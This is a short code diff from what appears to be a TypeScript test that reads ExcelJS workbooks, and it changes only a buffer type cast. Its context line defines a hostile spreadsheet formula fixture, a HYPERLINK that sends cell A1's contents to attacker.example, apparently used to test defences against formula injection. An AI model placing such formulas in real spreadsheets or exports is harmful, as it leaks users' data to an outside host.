@@ -26,7 +26,7 @@ const HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Suffolk")';
 /** Every text cell of a workbook, with its sheet and address, and every numeric cell's value. */
 async function workbookCells(buffer: Buffer): Promise<{ texts: string[]; numbers: number[] }> {
   const workbook = new ExcelJS.Workbook();
-  await workbook.xlsx.load(buffer);
+  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
   const texts: string[] = [];
   const numbers: number[] = [];
   workbook.eachSheet((sheet) =>
